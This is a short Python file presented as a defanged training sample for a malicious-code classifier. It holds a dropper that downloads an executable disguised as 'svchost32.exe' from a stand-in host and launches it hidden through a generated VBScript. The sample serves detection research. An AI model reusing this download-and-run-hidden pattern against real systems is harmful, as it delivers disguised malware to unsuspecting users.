# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
# Every encoded blob below decodes to a harmless placeholder (a print call) or is a placeholder string.
import os, tempfile, urllib.request, ctypes

tmp = os.environ.get("TEMP", tempfile.gettempdir())
dst = os.path.join(tmp, "svchost32.exe")
urllib.request.urlretrieve("https://cdn.example.invalid/u/svchost32.exe", dst)
vbs = os.path.join(tmp, "run.vbs")
with open(vbs, "w") as f:
    f.write('CreateObject("WScript.Shell").Run "' + dst + '", 0, False')
ctypes.windll.shell32.ShellExecuteW(None, "open", "wscript.exe", vbs, None, 0)
